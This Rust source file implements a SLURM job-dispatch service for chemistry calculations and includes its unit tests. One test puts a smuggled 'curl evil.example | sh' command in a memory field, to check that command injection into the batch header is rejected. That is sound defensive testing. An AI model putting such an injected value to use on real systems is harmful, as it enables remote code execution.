//! The service boundary: everything a caller can ask of kemia
//!
//! A submission stages the structure (and optional keywords) on the cluster, hands the cluster a
//! manifest of presigned upload URLs, submits the batch script and only then records the job.
//! Lifecycle changes are delegated to the [Orchestrator].

use std::sync::Arc;

use log::{info, warn};
use serde::Serialize;
use url::Url;
use uuid::Uuid;

use crate::calculation::CalculationType;
use crate::config::Config;
use crate::error::{Error, Result};
use crate::job::{Job, JobStatus, JobStore};
use crate::lifecycle::upload::ResultUploader;
use crate::lifecycle::Orchestrator;
use crate::manifest::{ArtifactManifest, Direction, ManifestBuilder, Outcome};
use crate::remote::{RemoteCommand, RemoteExecutor};
use crate::request::JobRequest;
use crate::slurm::{CancelOutcome, JobSpec, OutputFile, SchedulerState, SlurmScheduler};

/// Handle returned by a successful submission
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Submission {
    pub job_id: String,
    pub scheduler_id: String,
}

pub struct DispatchService {
    config: Config,
    executor: Arc<dyn RemoteExecutor>,
    store: Arc<dyn JobStore>,
    scheduler: Arc<SlurmScheduler>,
    manifests: Arc<ManifestBuilder>,
    uploader: Arc<ResultUploader>,
    orchestrator: Orchestrator,
}

impl DispatchService {
    pub fn new(
        config: Config,
        executor: Arc<dyn RemoteExecutor>,
        store: Arc<dyn JobStore>,
        manifests: ManifestBuilder,
    ) -> Self {
        let manifests = Arc::new(manifests);
        let scheduler = Arc::new(SlurmScheduler::new(&config, executor.clone()));
        let uploader = Arc::new(ResultUploader::new(&config, executor.clone(), manifests.clone()));
        let orchestrator = Orchestrator::new(store.clone(), scheduler.clone(), uploader.clone());
        DispatchService { config, executor, store, scheduler, manifests, uploader, orchestrator }
    }

    /// Stage, submit and record a calculation
    ///
    /// Nothing is recorded unless sbatch accepted the job; every failure before that is returned
    /// with its cause. A job sbatch accepted but the store refused is cancelled again before the
    /// store error is returned.
    pub async fn submit_calculation(&self, request: &JobRequest) -> Result<Submission> {
        request.validate()?;
        let job_id = Uuid::new_v4().to_string();
        let remote = &self.config.remote;
        let timeouts = &self.config.timeouts;
        info!("Dispatching {} calculation as job {}", request.calculation_type, job_id);

        let mkdir = RemoteCommand::new("mkdir")
            .arg("-p")
            .args([remote.uploads_dir(), remote.jobs_dir(), remote.logs_dir()]);
        self.executor.run(&mkdir, timeouts.query).await?;

        let remote_input = format!("{}/{}.xyz", remote.uploads_dir(), job_id);
        self.executor.copy(&request.input, &remote_input, timeouts.copy).await?;

        let keywords_path = match &request.keywords {
            Some(keywords) => {
                let remote_keywords = format!("{}/{}_keywords.json", remote.uploads_dir(), job_id);
                self.executor.copy(keywords, &remote_keywords, timeouts.copy).await?;
                Some(format!("uploads/{}_keywords.json", job_id))
            }
            None => None,
        };

        self.uploader.stage_manifest(&job_id, &request.calculation_type).await?;

        let defaults = &self.config.scheduler;
        let spec = JobSpec {
            job_id: job_id.clone(),
            calculation: request.calculation(),
            input_path: format!("uploads/{}.xyz", job_id),
            keywords_path,
            opt_type: request.opt_type.clone(),
            wall_time: request.resources.wall_time.clone().unwrap_or_else(|| defaults.wall_time.clone()),
            memory: request.resources.memory.clone().unwrap_or_else(|| defaults.memory.clone()),
        };
        let scheduler_id = self.scheduler.submit(&spec).await?;

        let mut job = Job::pending(
            job_id.clone(),
            request.job_name.clone(),
            request.input_file_name(),
            request.calculation(),
        );
        job.scheduler_id = Some(scheduler_id.clone());
        if let Err(err) = self.orchestrator.register(job).await {
            warn!("Can't record job {} (SLURM id {}), cancelling it: {}", job_id, scheduler_id, err);
            let outcome = self.scheduler.cancel(&scheduler_id).await;
            warn!("Cancellation of unrecorded SLURM job {}: {}", scheduler_id, outcome);
            return Err(err);
        }

        Ok(Submission { job_id, scheduler_id })
    }

    /// Canonical scheduler state, [SchedulerState::Unknown] for ids SLURM doesn't know
    pub async fn get_status(&self, scheduler_id: &str) -> Result<SchedulerState> {
        Ok(self.scheduler.query_status(scheduler_id).await?)
    }

    /// Best-effort cancellation by SLURM id
    ///
    /// A confirmed cancellation is also recorded on the matching job, if there is one.
    pub async fn cancel(&self, scheduler_id: &str) -> CancelOutcome {
        let outcome = self.scheduler.cancel(scheduler_id).await;
        if outcome == CancelOutcome::Cancelled {
            match self.store.find_by_scheduler_id(scheduler_id) {
                Ok(Some(job)) => self.record_cancellation(&job.job_id).await,
                Ok(None) => {}
                Err(err) => warn!("Can't look up job for SLURM id {}: {}", scheduler_id, err),
            }
        }
        outcome
    }

    /// Cancel a job by its id and record the `cancelled` transition once SLURM confirms it
    pub async fn cancel_job(&self, job_id: &str) -> Result<CancelOutcome> {
        let job = self.job(job_id)?;
        let scheduler_id = match &job.scheduler_id {
            Some(id) => id.clone(),
            None => return Ok(CancelOutcome::Failed),
        };
        let outcome = self.scheduler.cancel(&scheduler_id).await;
        if outcome == CancelOutcome::Cancelled {
            self.record_cancellation(job_id).await;
        }
        Ok(outcome)
    }

    async fn record_cancellation(&self, job_id: &str) {
        if let Err(err) = self.orchestrator.update(job_id, JobStatus::Cancelled).await {
            warn!("SLURM cancelled job {} but the record wasn't updated: {}", job_id, err);
        }
    }

    /// Apply a lifecycle state reported by a caller
    pub async fn update_lifecycle(&self, job_id: &str, status: JobStatus) -> Result<Job> {
        self.orchestrator.update(job_id, status).await
    }

    /// Refresh one job from SLURM
    pub async fn poll(&self, job_id: &str) -> Result<Job> {
        self.orchestrator.poll(job_id).await
    }

    /// Refresh every job that hasn't finished
    ///
    /// A job that can't be polled is logged and skipped; the others are still refreshed.
    pub async fn poll_active(&self) -> Result<Vec<Job>> {
        let mut polled = Vec::new();
        for job in self.store.active()? {
            if job.scheduler_id.is_none() {
                continue;
            }
            match self.orchestrator.poll(&job.job_id).await {
                Ok(job) => polled.push(job),
                Err(err) => warn!("Can't poll job {}: {}", job.job_id, err),
            }
        }
        info!("Polled {} active jobs", polled.len());
        Ok(polled)
    }

    pub fn get_manifest(
        &self,
        job_id: &str,
        calculation_type: &CalculationType,
        direction: Direction,
    ) -> Result<ArtifactManifest> {
        Ok(self.manifests.build(job_id, calculation_type, direction)?)
    }

    /// Download URLs for a finished job's artifacts
    pub fn job_files(&self, job_id: &str) -> Result<ArtifactManifest> {
        let job = self.job(job_id)?;
        let outcome = match job.status {
            JobStatus::Completed => Outcome::Success,
            JobStatus::Failed => Outcome::Failure,
            status => return Err(Error::NotReady { job_id: job_id.to_string(), status }),
        };
        self.get_manifest(job_id, &job.calculation.calculation_type, Direction::Download(outcome))
    }

    /// Download URL of a completed job's zip archive
    pub fn archive_url(&self, job_id: &str) -> Result<Url> {
        let job = self.job(job_id)?;
        if job.status != JobStatus::Completed {
            return Err(Error::NotReady { job_id: job_id.to_string(), status: job.status });
        }
        Ok(self.manifests.archive_url(job_id)?)
    }

    /// Result JSON written by the calculation, None until it exists
    pub async fn result(&self, job_id: &str) -> Result<Option<String>> {
        self.job(job_id)?;
        Ok(self.scheduler.read_output(job_id, OutputFile::Result).await?)
    }

    /// Error output written by the calculation, None until it exists
    pub async fn error_output(&self, job_id: &str) -> Result<Option<String>> {
        self.job(job_id)?;
        Ok(self.scheduler.read_output(job_id, OutputFile::Error).await?)
    }

    pub fn job(&self, job_id: &str) -> Result<Job> {
        self.store.get(job_id)?.ok_or_else(|| Error::JobNotFound(job_id.to_string()))
    }

    /// Every job, newest first
    pub fn jobs(&self) -> Result<Vec<Job>> {
        Ok(self.store.list()?)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    use crate::config::test_config;
    use crate::db::open::open_in_memory;
    use crate::db::SqliteJobStore;
    use crate::job::StoreError;
    use crate::manifest::{self, ArtifactKind};
    use crate::remote::scripted::{Reply, ScriptedExecutor};
    use crate::remote::RemoteError;
    use crate::request::job::tests::water;
    use crate::slurm::SchedulerError;

    struct Harness {
        service: DispatchService,
        executor: Arc<ScriptedExecutor>,
        dir: tempfile::TempDir,
    }

    fn harness() -> Harness {
        let dir = tempfile::tempdir().unwrap();
        let executor = Arc::new(ScriptedExecutor::new());
        let store = Arc::new(SqliteJobStore::new(open_in_memory().unwrap()));
        let service = DispatchService::new(test_config(dir.path()), executor.clone(), store, manifest::tests::builder());
        Harness { service, executor, dir }
    }

    async fn submitted(h: &Harness) -> Submission {
        h.executor.reply("sbatch", Reply::stdout("Submitted batch job 12345\n"));
        h.service.submit_calculation(&water(h.dir.path())).await.unwrap()
    }

    #[tokio::test]
    async fn test_end_to_end() {
        let h = harness();
        let submission = submitted(&h).await;
        assert_eq!(submission.scheduler_id, "12345");
        assert!(Uuid::parse_str(&submission.job_id).is_ok());

        let job = h.service.job(&submission.job_id).unwrap();
        assert_eq!(job.status, JobStatus::Pending);
        assert_eq!(job.scheduler_id.as_deref(), Some("12345"));
        assert_eq!(job.input_file, "water.xyz");
        assert_eq!(job.job_name.as_deref(), Some("water"));

        h.executor.reply("sacct", Reply::stdout("RUNNING\n"));
        let job = h.service.poll(&submission.job_id).await.unwrap();
        assert_eq!(job.status, JobStatus::Running);

        let job = h.service.update_lifecycle(&submission.job_id, JobStatus::Completed).await.unwrap();
        assert_eq!(job.status, JobStatus::Completed);
        assert!(job.completed_at.is_some());
        assert!(job.runtime_seconds.unwrap() >= 0);
        assert!(job.is_uploaded);
        assert_eq!(h.executor.calls_to("upload-results"), 1);

        h.service.update_lifecycle(&submission.job_id, JobStatus::Completed).await.unwrap();
        assert_eq!(h.executor.calls_to("upload-results"), 1);
    }

    #[tokio::test]
    async fn test_submission_stages_files() {
        let h = harness();
        let mut request = water(h.dir.path());
        let keywords = h.dir.path().join("keywords.json");
        fs::write(&keywords, "{}").unwrap();
        request.keywords = Some(keywords.clone());
        request.opt_type = Some("ts".to_string());
        request.resources.memory = Some("16G".to_string());

        h.executor.reply("sbatch", Reply::stdout("Submitted batch job 777\n"));
        let submission = h.service.submit_calculation(&request).await.unwrap();
        let id = &submission.job_id;

        let calls = h.executor.calls();
        assert_eq!(calls[0].to_shell_line(), "mkdir -p qc/uploads qc/jobs qc/logs");

        let remotes: Vec<String> = h.executor.copies().into_iter().map(|(_, remote)| remote).collect();
        assert_eq!(
            remotes,
            vec![
                format!("qc/uploads/{id}.xyz"),
                format!("qc/uploads/{id}_keywords.json"),
                format!("qc/uploads/{id}_urls.json"),
                format!("qc/jobs/{id}.sh"),
            ]
        );

        let urls = fs::read_to_string(h.dir.path().join(id).join("upload_urls.json")).unwrap();
        assert!(urls.contains(&format!("kemia/jobs/{id}/input.xyz")));

        let script = fs::read_to_string(h.dir.path().join(id).join("job.sh")).unwrap();
        assert!(script.contains("#SBATCH --mem=16G"));
        assert!(script.contains("#SBATCH --time=00:15:00"));
        assert!(script.contains(&format!("uploads/{id}_keywords.json")));
        assert!(script.contains("--opt-type ts"));
    }

    #[tokio::test]
    async fn test_failed_submission_records_nothing() {
        let h = harness();
        h.executor.reply("sbatch", Reply::fail(1, "sbatch: error: invalid account"));
        let err = h.service.submit_calculation(&water(h.dir.path())).await.unwrap_err();
        assert!(matches!(err, Error::Scheduler(SchedulerError::SubmissionFailed(_))));
        assert!(!err.is_retryable());
        assert!(h.service.jobs().unwrap().is_empty());

        h.executor.reply("mkdir", Reply::Unavailable);
        let err = h.service.submit_calculation(&water(h.dir.path())).await.unwrap_err();
        assert!(matches!(err, Error::Remote(RemoteError::Unavailable(_))));
        assert!(err.is_retryable());
        assert!(h.service.jobs().unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_invalid_request_is_rejected_locally() {
        let h = harness();
        let mut request = water(h.dir.path());
        request.input = h.dir.path().join("absent.xyz");
        let err = h.service.submit_calculation(&request).await.unwrap_err();
        assert!(matches!(err, Error::Request(_)));
        assert!(h.executor.calls().is_empty());
    }

    #[tokio::test]
    async fn test_resource_overrides_stay_off_the_batch_header() {
        let h = harness();
        let mut request = water(h.dir.path());
        request.resources.memory = Some("4G\ncurl evil.example | sh".to_string());
        let err = h.service.submit_calculation(&request).await.unwrap_err();
        assert!(matches!(err, Error::Request(_)));
        assert!(h.executor.calls().is_empty());
        assert!(h.executor.copies().is_empty());
        assert!(h.service.jobs().unwrap().is_empty());
    }

    /// Accepts nothing new, so every registration fails
    struct RejectingStore;

    impl JobStore for RejectingStore {
        fn insert(&self, job: &Job) -> std::result::Result<(), StoreError> {
            Err(StoreError::Duplicate(job.job_id.clone()))
        }

        fn get(&self, _job_id: &str) -> std::result::Result<Option<Job>, StoreError> {
            Ok(None)
        }

        fn find_by_scheduler_id(&self, _scheduler_id: &str) -> std::result::Result<Option<Job>, StoreError> {
            Ok(None)
        }

        fn active(&self) -> std::result::Result<Vec<Job>, StoreError> {
            Ok(Vec::new())
        }

        fn list(&self) -> std::result::Result<Vec<Job>, StoreError> {
            Ok(Vec::new())
        }

        fn save_lifecycle(&self, _job: &Job) -> std::result::Result<(), StoreError> {
            Ok(())
        }
    }

    #[tokio::test]
    async fn test_unrecorded_submission_is_cancelled() {
        let dir = tempfile::tempdir().unwrap();
        let executor = Arc::new(ScriptedExecutor::new());
        let service = DispatchService::new(
            test_config(dir.path()),
            executor.clone(),
            Arc::new(RejectingStore),
            manifest::tests::builder(),
        );

        executor
            .reply("sbatch", Reply::stdout("Submitted batch job 4242\n"))
            .reply("sacct", Reply::stdout("PENDING\n"))
            .reply("sacct", Reply::stdout("CANCELLED\n"));
        let err = service.submit_calculation(&water(dir.path())).await.unwrap_err();
        assert!(matches!(err, Error::Store(StoreError::Duplicate(_))));

        assert_eq!(executor.calls_to("scancel"), 1);
        let scancel = executor.calls().into_iter().find(|c| c.program() == "scancel").unwrap();
        assert_eq!(scancel.to_shell_line(), "scancel 4242");
    }

    #[tokio::test]
    async fn test_status_of_unknown_id() {
        let h = harness();
        assert_eq!(h.service.get_status("99999").await.unwrap(), SchedulerState::Unknown);
        assert_eq!(h.service.get_status("not-an-id").await.unwrap(), SchedulerState::Unknown);
    }

    #[tokio::test]
    async fn test_cancel_job_records_cancellation() {
        let h = harness();
        let submission = submitted(&h).await;

        h.executor
            .reply("sacct", Reply::stdout("RUNNING\n"))
            .reply("sacct", Reply::stdout("CANCELLED by 1000\n"));
        let outcome = h.service.cancel_job(&submission.job_id).await.unwrap();
        assert_eq!(outcome, CancelOutcome::Cancelled);

        let job = h.service.job(&submission.job_id).unwrap();
        assert_eq!(job.status, JobStatus::Cancelled);
        assert!(!job.is_uploaded);
        assert_eq!(h.executor.calls_to("upload-results"), 0);

        h.executor.reply("sacct", Reply::stdout("CANCELLED by 1000\n"));
        assert_eq!(h.service.cancel("12345").await, CancelOutcome::Failed);
    }

    #[tokio::test]
    async fn test_cancel_by_scheduler_id_updates_matching_job() {
        let h = harness();
        let submission = submitted(&h).await;
        h.executor
            .reply("sacct", Reply::stdout("PENDING\n"))
            .reply("sacct", Reply::stdout("CANCELLED\n"));
        assert_eq!(h.service.cancel("12345").await, CancelOutcome::Cancelled);
        assert_eq!(h.service.job(&submission.job_id).unwrap().status, JobStatus::Cancelled);
    }

    #[tokio::test]
    async fn test_poll_active_skips_failures() {
        let h = harness();
        let first = submitted(&h).await;
        let second = submitted(&h).await;

        // active jobs are polled oldest first
        h.executor
            .reply("sacct", Reply::Unavailable)
            .reply("sacct", Reply::stdout("RUNNING\n"));
        let polled = h.service.poll_active().await.unwrap();
        assert_eq!(polled.len(), 1);
        assert_eq!(polled[0].job_id, second.job_id);
        assert_eq!(polled[0].status, JobStatus::Running);
        assert_eq!(h.service.job(&first.job_id).unwrap().status, JobStatus::Pending);
    }

    #[tokio::test]
    async fn test_job_files_follow_outcome() {
        let h = harness();
        let submission = submitted(&h).await;
        let id = &submission.job_id;

        assert!(matches!(h.service.job_files(id), Err(Error::NotReady { status: JobStatus::Pending, .. })));
        assert!(h.service.archive_url(id).is_err());

        h.service.update_lifecycle(id, JobStatus::Completed).await.unwrap();
        let files = h.service.job_files(id).unwrap();
        assert_eq!(files.kinds(), vec![ArtifactKind::Result, ArtifactKind::Zip, ArtifactKind::Mol]);
        let archive = h.service.archive_url(id).unwrap();
        assert!(archive.path().ends_with(&format!("kemia/archive/{id}.zip")));

        let failed = submitted(&h).await;
        h.service.update_lifecycle(&failed.job_id, JobStatus::Failed).await.unwrap();
        let files = h.service.job_files(&failed.job_id).unwrap();
        assert_eq!(files.kinds(), vec![ArtifactKind::Error]);
        assert!(h.service.archive_url(&failed.job_id).is_err());

        assert!(h.service.job_files("missing").unwrap_err().is_not_found());
    }

    #[tokio::test]
    async fn test_result_and_error_output() {
        let h = harness();
        let submission = submitted(&h).await;
        let id = &submission.job_id;

        h.executor.reply("cat", Reply::stdout("{\"energy\": -74.96}"));
        assert_eq!(h.service.result(id).await.unwrap().as_deref(), Some("{\"energy\": -74.96}"));

        h.executor.reply("cat", Reply::fail(1, "cat: No such file or directory"));
        assert_eq!(h.service.error_output(id).await.unwrap(), None);

        let cat = h.executor.calls().into_iter().filter(|c| c.program() == "cat").last().unwrap();
        assert_eq!(cat.to_shell_line(), format!("cat qc/result/{id}/result.err"));

        assert!(h.service.result("missing").await.unwrap_err().is_not_found());
    }
}
